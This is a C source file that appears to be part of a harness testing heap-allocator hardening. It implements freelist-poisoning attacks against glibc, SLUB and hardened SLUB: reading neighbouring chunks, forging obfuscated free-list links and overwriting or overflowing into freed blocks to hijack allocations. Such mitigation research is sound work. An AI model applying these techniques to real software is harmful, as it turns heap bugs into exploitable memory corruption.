/* SPDX-License-Identifier: MIT */
/*
 * A read of n bytes behind a block of the attacker's, whose address is known; then a write of 8
 * bytes to a freed block, or an overflow of n bytes out of the block that was read.
 */
#include "attack.h"

static struct neighbours pair;
static enum second_word way;
static uintptr_t key;

/* The neighbour is free; what lies in it, from its start, was read as far as @nr_bytes go. */
static bool key_read(size_t size, size_t nr_bytes)
{
	const char *block = pair.second;

	if (pair.distance - size + 16 > nr_bytes)
		return false;
	key = second_word_key(way, (uintptr_t)block, word_at(block),
			      word_at(block + 8));
	word_write(buffer + 8,
		   second_word_make(way, key, (uintptr_t)buffer, 0));
	return true;
}

/* The neighbour's address follows from the block's; what was read tells whether it is free. */
static uintptr_t glibc_read(size_t nr_bytes, size_t size)
{
	return pair.distance - size + 8 > nr_bytes ? 0 : (uintptr_t)pair.second;
}

static void prepared(size_t size)
{
	char *next, *block;

	if (dialect == SLUB)
		way = second_word_study(size);
	history(size);
	if (dialect == SLUB_HARDENED)
		late_get(size);
	pair = neighbours_get(size);
	next = block_some(size, pair.first);
	while (next == pair.second)
		next = block_some(size, pair.first);
	block_put(next);
	block_put(pair.second);
	block = block_some(size, pair.first);
	block_put(block);
	if (dialect == SLUB_HARDENED)
		late_put();
}

static bool hardened(size_t size, size_t nr_bytes)
{
	char *tail = pair.first + pair.distance - sizeof(uint64_t), *block;
	uint64_t secret;

	if (tail + sizeof(uint64_t) > pair.first + size + nr_bytes)
		return false;
	secret = hardened_tail_secret(word_at(tail), pair.first, size);
	hardened_fake(buffer, pair.distance, secret, secret);
	block = pair.second;
	word_write(block, hardened_link(secret, block, buffer));
	return gets_wrong(size, 2000);
}

/* 16 bytes read; 8 bytes written to a freed block, the neighbour. */
static bool by_16_then_8(size_t size)
{
	uintptr_t at;

	prepared(size);
	if (dialect == SLUB_HARDENED)
		return hardened(size, 16);
	if (dialect == GLIBC) {
		at = glibc_read(16, size);
		word_write(pair.second, glibc_link(at, (uintptr_t)buffer));
	} else {
		key_read(size, 16);
		word_write(pair.second, (uintptr_t)buffer);
	}
	return gets_wrong(size, 200);
}

static bool overflow(size_t size, size_t nr_bytes)
{
	uintptr_t words[6], at;
	size_t skip;

	prepared(size);
	skip = pair.distance - size;
	if (dialect == SLUB_HARDENED || skip + 8 > nr_bytes)
		return false;
	for (size_t i = 0; i < nr_bytes / 8; i++)
		words[i] = word_at(pair.first + size + 8 * i);
	if (dialect == GLIBC) {
		at = glibc_read(nr_bytes, size);
		words[skip / 8] = glibc_link(at, (uintptr_t)buffer);
	} else if (key_read(size, nr_bytes)) {
		words[skip / 8] = (uintptr_t)buffer;
		words[skip / 8 + 1] =
			second_word_make(way, key, (uintptr_t)pair.second,
					 (uintptr_t)buffer);
	}
	bytes_write(pair.first + size, words, nr_bytes);
	return gets_wrong(size, 200);
}

static bool by_16(size_t size)
{
	return overflow(size, 16);
}

static bool by_32(size_t size)
{
	return overflow(size, 32);
}

const struct attack attacks[] = {
	{ "16-8", by_16_then_8, { 24, 64 }, { 40, 128, 200, 512, 1000 }, NULL },
	{ "16-16", by_16, { 24, 64 }, { 40, 128, 512 }, NULL },
	{ "32-32", by_32, { 64 }, { 24, 40, 128, 512 }, NULL },
	{ .name = NULL },
};
